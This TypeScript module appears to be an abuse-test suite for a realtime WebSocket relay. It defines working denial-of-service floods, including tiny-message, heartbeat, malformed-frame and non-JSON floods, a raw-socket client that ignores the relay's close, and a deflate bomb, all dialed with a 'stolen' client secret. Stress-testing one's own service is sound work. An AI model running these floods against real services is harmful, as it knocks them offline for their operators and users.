/** Floods: messages that cost their sender nothing, as many as the network takes; who is hung up on dials again. */
import type { Attack } from "./attack.ts";
import { pause, type Attacker, type Connection, type DialOptions } from "./attacker.ts";

/** Between two dials: a browser's page would not be faster. */
const REDIAL_MS = 100;

/** Dials with a stolen client secret until the attack is over. */
export async function again(
  attacker: Attacker,
  options: DialOptions,
  harm: (connection: Connection) => Promise<void>,
): Promise<void> {
  const key = options.key === undefined ? await attacker.secret("echo") : options.key;
  while (!attacker.over) {
    const connection = await attacker.dial({ ...options, key });
    if (connection !== null && (await connection.greeted())) {
      await harm(connection);
      connection.close();
    }
    await pause(Math.min(REDIAL_MS, attacker.leftMs));
  }
}

function flood(name: string, what: string, message: string | Uint8Array, extended = false): Attack {
  return {
    name,
    what,
    run: (attacker) =>
      again(attacker, { protocol: extended ? "duplex.v1" : "realtime" }, (connection) =>
        connection.flood(message),
      ),
  };
}

/** Kind 9 of stream 0, no number. */
const BAD_FRAME = new Uint8Array([9, 0, 0, 0, 0, 0, 0, 0, 1, 2]);
/** Unnumbered audio of one sample. */
const TINY_FRAME = new Uint8Array([1, 0, 0, 0, 0, 0, 0, 0, 1, 2]);

const deflateBomb: Attack = {
  name: "deflate-bomb",
  what: "15 MiB of zeros in base64, compressed to 15 KiB where compression is negotiated",
  run: (attacker) =>
    again(attacker, { deflate: true }, async (connection) => {
      attacker.ended(connection.socket.extensions === "" ? "not compressed" : "compressed");
      connection.send(`{"type":"input_audio_buffer.append","audio":"${"A".repeat(15 * 1024 * 1024)}"}`);
      await connection.drained();
      await pause(Math.min(1000, attacker.leftMs));
    }),
};

/** `{}` in a masked frame. */
const TINY_WIRE = Buffer.from([0x81, 0x82, 0, 0, 0, 0, 0x7b, 0x7d]);

/** Speaks WebSocket by hand, hears nothing and goes on after the relay's close. */
const deaf: Attack = {
  name: "deaf-flood",
  what: "{} likewise, from a client that goes on after it was closed",
  run: async (attacker) => {
    const key = await attacker.secret("echo");
    const { host } = new URL(attacker.order.url);
    const burst = Buffer.concat(Array.from({ length: 1000 }, () => TINY_WIRE));
    while (!attacker.over) {
      const socket = await attacker.plain();
      socket.on("close", () => attacker.ended("end of TCP"));
      socket.resume();
      socket.write(
        `GET /v1/realtime?model=echo HTTP/1.1\r\nHost: ${host}\r\nAuthorization: Bearer ${key}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n`,
      );
      await pause(300);
      let sent = 0;
      while (!socket.destroyed && socket.writable && !attacker.over) {
        if (socket.writableLength > 256 * 1024) await pause(2);
        else if (socket.write(burst)) await new Promise((resolve) => setImmediate(resolve));
        sent = socket.bytesWritten;
      }
      attacker.sent(Math.floor(sent / TINY_WIRE.length));
      socket.destroy();
    }
  },
};

export const FLOODS: readonly Attack[] = [
  flood("tiny-messages", "{} as fast as the network takes it", "{}"),
  flood("heartbeats", "heartbeats of duplex.v1 likewise", '{"type":"session.heartbeat"}', true),
  flood(
    "tiny-appends",
    "appends of three bytes likewise",
    '{"type":"input_audio_buffer.append","audio":"AAAA"}',
  ),
  flood(
    "gap-appends",
    "appends of 20 ms likewise, as after a gap: five and a half minutes of them are taken whole",
    `{"type":"input_audio_buffer.append","audio":"${"AgAC".repeat(320)}"}`,
  ),
  flood("tiny-frames", "binary frames of one sample likewise", TINY_FRAME, true),
  flood("bad-frames", "binary frames of an unknown kind likewise", BAD_FRAME, true),
  flood(
    "empty-updates",
    "session.update without a change likewise",
    '{"type":"session.update","session":{}}',
  ),
  flood("answers", "response.create likewise", '{"type":"response.create"}'),
  flood("not-json", "rubbish of 1 KiB likewise", "[{".repeat(512)),
  deaf,
  deflateBomb,
];
